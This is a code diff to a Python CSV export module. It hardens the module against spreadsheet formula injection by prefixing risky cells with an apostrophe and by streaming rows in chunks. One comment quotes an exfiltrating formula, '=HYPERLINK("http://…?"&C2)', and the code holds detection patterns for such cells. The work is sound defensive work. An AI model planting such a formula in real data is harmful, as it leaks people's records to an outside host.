@@ -31,17 +31,43 @@ CONTENT_TYPES = {
 # A cell that a spreadsheet would read as a formula: "=…", "@…", a tab or carriage return first, or "+"/"-" followed
 # by anything but a number ("+84912000123" stays a phone number). Course titles come from editors and emails from
 # learners, and "=HYPERLINK(\"http://…?\"&C2)" in a manager's export would send the row's data away (audit
-# 2026-12-04). Such a cell is written with a leading apostrophe, as OWASP advises for CSV injection.
-_FORMULA = re.compile(r"^(?:[=@\t\r]|[+\-](?![\d .]*$))")
+# 2026-12-04). Such a cell is written with a leading apostrophe, as OWASP advises for CSV injection. The writers
+# below are the one place this happens (every row they write passes through ``_safe``).
+_RISKY_FIRST = frozenset("=@\t\r+-")
+_NUMBER = re.compile(r"[+\-][\d .]*")
+
+
+def safe_cell(value):
+    """``value`` as a spreadsheet may show it: text that would run as a formula gets a leading apostrophe."""
+    if value.__class__ is str and value[:1] in _RISKY_FIRST and not (
+        value[0] in "+-" and _NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
 
 
 def _safe(row: list) -> list:
-    return [f"'{cell}" if isinstance(cell, str) and _FORMULA.match(cell) else cell for cell in row]
+    # Inlined first-character test: a million-row export calls this 20 million times (issue 17); only text that
+    # starts with one of the six characters reaches ``safe_cell``'s full test.
+    return [safe_cell(cell) if cell.__class__ is str and cell[:1] in _RISKY_FIRST else cell for cell in row]
 
 
 class _Echo:
     def write(self, value: str) -> str:
         return value
+
+
+# A written CSV line in which some cell starts with one of ``_RISKY_FIRST`` (at the line's start or after a comma,
+# inside quotes or not). Most lines have none: one search per line instead of a test per cell; a line that has one
+# is written again through ``_safe`` (a phone number "+84…" matches here and is left alone there).
+# (An unquoted carriage return after a comma is the line's own end after an empty last cell: a cell that starts with
+# one is always quoted.)
+_RISKY_LINE = re.compile(r'(?:^|,)(?:"[=@\t\r+\-]|[=@\t+\-])')
+
+
+# Rows per chunk handed out by ``csv_lines``: one row per chunk made a million-row export a million generator
+# steps, encodes and writes (and a streamed download a million tiny network writes); 256 rows are ~40 KB.
+ROWS_PER_CHUNK = 256
 
 
 DATE_FORMAT = "DD/MM/YYYY"  # how a date cell shows in Excel (the value stays a date: sortable, filterable)
@@ -50,13 +76,23 @@ DATE_FORMAT = "DD/MM/YYYY"  # how a date cell shows in Excel (the value stays a 
 def csv_lines(
     rows: Iterable[list], *, on_row: Callable[[int], None] | None = None, columns=None
 ) -> Iterator[bytes]:
-    """The BOM, the header and each row as UTF-8 bytes (CRLF line ends, as Excel writes them)."""
+    """The BOM, the header and the rows as UTF-8 bytes (CRLF line ends, as Excel writes them), ``ROWS_PER_CHUNK``
+    rows per chunk; ``on_row`` is called after each row with the count so far."""
     writer = csv.writer(_Echo())
-    yield (BOM + writer.writerow(column_headers(columns))).encode("utf-8")
+    yield (BOM + writer.writerow(_safe(column_headers(columns)))).encode("utf-8")
+    lines = []
+    every = ROWS_PER_CHUNK
+    risky = _RISKY_LINE.search
     for count, row in enumerate(rows, start=1):
-        yield writer.writerow(_safe(row)).encode("utf-8")
+        line = writer.writerow(row)
+        lines.append(writer.writerow(_safe(row)) if risky(line) else line)
         if on_row is not None:
             on_row(count)
+        if count % every == 0:
+            yield "".join(lines).encode("utf-8")
+            lines.clear()
+    if lines:
+        yield "".join(lines).encode("utf-8")
 
 
 def _dated(sheet, row: list) -> list:
